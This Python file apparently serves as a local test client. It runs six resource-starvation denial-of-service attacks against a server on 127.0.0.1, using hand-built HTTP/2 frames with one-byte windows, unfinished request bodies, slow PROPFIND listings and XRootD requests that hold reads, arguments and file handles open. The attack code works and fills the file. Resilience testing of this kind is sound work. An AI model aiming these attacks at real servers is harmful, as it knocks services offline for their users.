"""A client that occupies the shared resources of a server, and reconnects when it is disconnected and every few
seconds: `starvation_attack.py KIND PORT ADDRESSES`.

Prints `ready` when all its connections have sent their requests, and the number of reconnects when it is terminated.
"""

from __future__ import annotations

import contextlib
import json
import random
import select
import signal
import socket
import struct
import sys
import time

HOST = "127.0.0.1"
FIRST_ADDRESS = 10
"""Last octet of the first client address: clients use 127.0.0.10 and the following addresses."""
DRIP_S = 1.0
LIFE_S = (2.0, 6.0)
"""Minimum and maximum lifetime of a connection, after which it is closed and reopened."""
STREAMS = 128


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Returns an HTTP/2 frame (RFC 9113)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: int, value: bytes) -> bytes:
    """Returns an HPACK header field whose name is in the static table."""
    return bytes([0x40 | name, len(value)]) + value


def http2(method: bytes, path: bytes, has_body: bool = False) -> bytes:
    """Returns the data of a connection with the maximum number of requests, and response windows of one byte."""
    settings = struct.pack(">HI", 4, 1)
    opening = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings) + frame(8, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535))
    fields = literal(2, method) + b"\x86" + literal(1, b"x") + literal(4, path)
    return opening + b"".join(frame(1, 4 if has_body else 5, stream, fields) for stream in range(1, 2 * STREAMS, 2))


class Bodies:
    """Unfinished bodies of all requests of an HTTP/2 connection, sent as far as the windows allow."""

    LENGTH = 255 << 10

    def __init__(self) -> None:
        self.received = b""
        self.initial = self.window = 65535
        self.windows = dict.fromkeys(range(1, 2 * STREAMS, 2), self.initial)
        self.left = dict.fromkeys(self.windows, self.LENGTH)

    def take(self, received: bytes) -> None:
        """Applies the server's window updates."""
        self.received += received
        while len(self.received) >= 9 and len(self.received) >= 9 + (length := int.from_bytes(self.received[:3])):
            kind, flags, stream = self.received[3], self.received[4], int.from_bytes(self.received[5:9])
            payload, self.received = self.received[9 : 9 + length], self.received[9 + length :]
            if kind == 4 and not flags & 1:
                for at in range(0, length, 6):
                    name, value = struct.unpack_from(">HI", payload, at)
                    if name == 4:
                        self.windows = {each: window + value - self.initial for each, window in self.windows.items()}
                        self.initial = value
            elif kind == 8 and stream == 0:
                self.window += int.from_bytes(payload)
            elif kind == 8 and stream in self.windows:
                self.windows[stream] += int.from_bytes(payload)

    def more(self) -> bytes:
        """Returns the frames that may be sent now, at most one for each stream."""
        frames = []
        for stream in self.windows:
            length = min(16384, self.window, self.windows[stream], self.left[stream])
            if length > 0:
                frames.append(frame(0, 0, stream, b" " * length))
                self.window -= length
                self.windows[stream] -= length
                self.left[stream] -= length
        return b"".join(frames)


def xroot(code: int, parameters: bytes = b"", body: bytes = b"", stream: int = 1, length: int | None = None) -> bytes:
    """Returns a request of the XRootD protocol; `length` can announce more bytes than `body` has."""
    return struct.pack(">HH", stream, code) + parameters.ljust(16, b"\0") + struct.pack(">I", len(body) if length is None else length) + body


LOGIN = struct.pack(">5I", 0, 0, 0, 4, 2012) + xroot(3006, struct.pack(">IBB", 0x520, 0, 0)) + xroot(3007, struct.pack(">I8sBBBB", 1, b"u", 0, 0, 4, 0))
OPEN = xroot(3010, struct.pack(">HH", 0, 0x10), b"/long")
READS = b"".join(xroot(3030, struct.pack(">IQI", 0, 0, 4 << 20), stream=stream) for stream in range(2, 102))
PROPFIND = b"PROPFIND /many/ HTTP/1.1\r\nhost: x\r\ndepth: 1\r\n\r\n"
ATTACKS = {
    "closed windows": (20, lambda: http2(b"GET", b"/long")),
    "untaken reads": (60, lambda: LOGIN + OPEN + READS),
    "slow listings": (300, lambda: PROPFIND),
    "long arguments": (64, lambda: LOGIN + xroot(3021, length=2 << 20)),
    "unfinished bodies": (20, lambda: http2(b"PROPFIND", b"/", has_body=True)),
    "open files": (5, lambda: LOGIN + OPEN * 4096),
}
"""By name: the number of connections, and the data that each sends."""
DRIPS = {"long arguments": b"/"}
"""Attacks that send one more byte every `DRIP_S` seconds."""
TAKES = {"closed windows", "unfinished bodies", "open files"}
"""Attacks that read all received data. Closed windows keep that small."""


class Connection:
    """A connection that reopens when it is disconnected, and at the end of its lifetime."""

    def __init__(self, kind: str, port: int, address: str) -> None:
        self.kind, self.port, self.address = kind, port, address
        self.opened = -1
        self.open()

    def open(self) -> None:
        self.opened += 1
        self.end = time.monotonic() + random.uniform(*LIFE_S)
        self.socket = socket.socket()
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.socket.bind((self.address, 0))
        self.socket.settimeout(5)
        self.unsent = memoryview(ATTACKS[self.kind][1]())
        self.bodies = Bodies() if self.kind == "unfinished bodies" else None
        with contextlib.suppress(OSError):
            self.socket.connect((HOST, self.port))
        self.socket.setblocking(False)

    def step(self, events: int, drips: bool) -> None:
        """Continues sending, reads received data, or reconnects."""
        try:
            if drips and not self.unsent:
                self.unsent = memoryview(DRIPS.get(self.kind, b""))
            if time.monotonic() > self.end:
                raise ConnectionError
            if events & (select.POLLERR | select.POLLHUP | select.POLLRDHUP):
                raise ConnectionError
            if events & select.POLLOUT and self.unsent:
                self.unsent = self.unsent[self.socket.send(self.unsent) :]
            if events & select.POLLIN and self.kind in TAKES:
                received = self.socket.recv(1 << 16)
                if not received:
                    raise ConnectionError
                if self.bodies:
                    self.bodies.take(received)
            if self.bodies and not self.unsent:
                self.unsent = memoryview(self.bodies.more())
        except BlockingIOError:
            pass
        except OSError:
            self.socket.close()
            self.open()

    def wanted(self) -> int:
        """Returns the poll events that it waits for."""
        return select.POLLRDHUP | (select.POLLOUT if self.unsent else 0) | (select.POLLIN if self.kind in TAKES else 0)


def main() -> None:
    kind, port, addresses = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    number = max(ATTACKS[kind][0], addresses)
    connections = [Connection(kind, port, f"127.0.0.{FIRST_ADDRESS + index % addresses}") for index in range(number)]

    def end(*_: object) -> None:
        print(json.dumps({"connections": number, "reconnects": sum(each.opened for each in connections)}), flush=True)
        sys.exit(0)

    signal.signal(signal.SIGTERM, end)
    dripped, is_ready = time.monotonic(), False
    while True:
        poll = select.poll()
        by_number = {each.socket.fileno(): each for each in connections}
        for descriptor, each in by_number.items():
            poll.register(descriptor, each.wanted())
        ready = dict(poll.poll(200))
        drips = time.monotonic() - dripped > DRIP_S
        dripped = time.monotonic() if drips else dripped
        for descriptor, each in by_number.items():
            if drips or descriptor in ready or time.monotonic() > each.end:
                each.step(ready.get(descriptor, 0), drips)
        if not is_ready and (not ready or all(not each.unsent for each in connections)):
            is_ready = True
            print("ready", flush=True)


if __name__ == "__main__":
    main()
